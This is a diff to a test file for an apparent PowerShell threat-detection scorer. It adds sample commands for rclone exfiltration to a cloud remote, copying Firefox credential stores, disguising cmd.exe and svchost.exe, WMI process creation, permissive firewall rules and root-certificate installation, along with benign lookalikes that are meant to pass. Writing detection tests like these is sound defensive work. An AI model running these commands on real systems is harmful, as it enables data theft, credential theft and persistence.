@@ -66,6 +66,17 @@ def test_a_program_downloaded_into_a_user_folder_and_started_is_suspicious(scrip
     ("New-PSDrive -Name g -PSProvider FileSystem -Root \\\\fileserver\\C$", "heur.windows.admin_share_mapped"),
     ("New-InboxRule -Name x -SubjectContainsWords invoice -DeleteMessage $true", "heur.windows.mailbox_hiding_rule"),
     ("rclone copy C:\\Users\\Public\\loot remote:bucket", "heur.windows.rclone_transfer"),
+    (".\\rclone.exe copy --max-size 1700k C:\\data mega1:dump -v", "heur.windows.rclone_transfer"),
+    ('Copy-Item "$env:APPDATA\\Mozilla\\Firefox\\Profiles\\" -Destination C:\\x -Recurse',
+     "heur.windows.browser_secret_store"),
+    ('copy-item "$env:windir\\System32\\cmd.exe" -destination "$env:allusersprofile\\cmd.exe"',
+     "heur.windows.system_binary_name_elsewhere"),
+    ('Start-Process -FilePath "$Env:windir\\Temp\\svchost.exe"', "heur.windows.system_binary_name_elsewhere"),
+    ("Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='calc.exe'}",
+     "heur.windows.wmi_process_create"),
+    ('netsh advfirewall firewall add rule name="x" dir=in action=allow program="C:\\Users\\bob\\a.exe" enable=yes',
+     "heur.windows.firewall_allows_user_program"),
+    ('Move-Item -Path $cert.PSPath -Destination "Cert:\\LocalMachine\\Root"', "heur.windows.root_certificate_added"),
 ])
 def test_each_behaviour_is_suspicious_alone(script: str, finding: str) -> None:
     assert finding in ids(script, PS)
@@ -79,6 +90,10 @@ def test_each_behaviour_is_suspicious_alone(script: str, finding: str) -> None:
     "Get-Content -Path a.txt -Stream Zone.Identifier",
     "Write-Host 'Clear-EventLog and KerberosRequestorSecurityToken are words here'",
     "whoami\nipconfig /all",
+    "Start-Process -FilePath TestDrive:\\cmd.exe -PassThru",
+    'Start-Process "$env:windir\\System32\\cmd.exe"',
+    "netsh advfirewall firewall add rule name=web dir=in action=allow protocol=TCP localport=443",
+    "rclone copy C:\\data D:\\backup",
 ])
 def test_reads_listings_and_mentions_are_not_the_behaviour(script: str) -> None:
     assert score(script, PS) < SUSPICIOUS
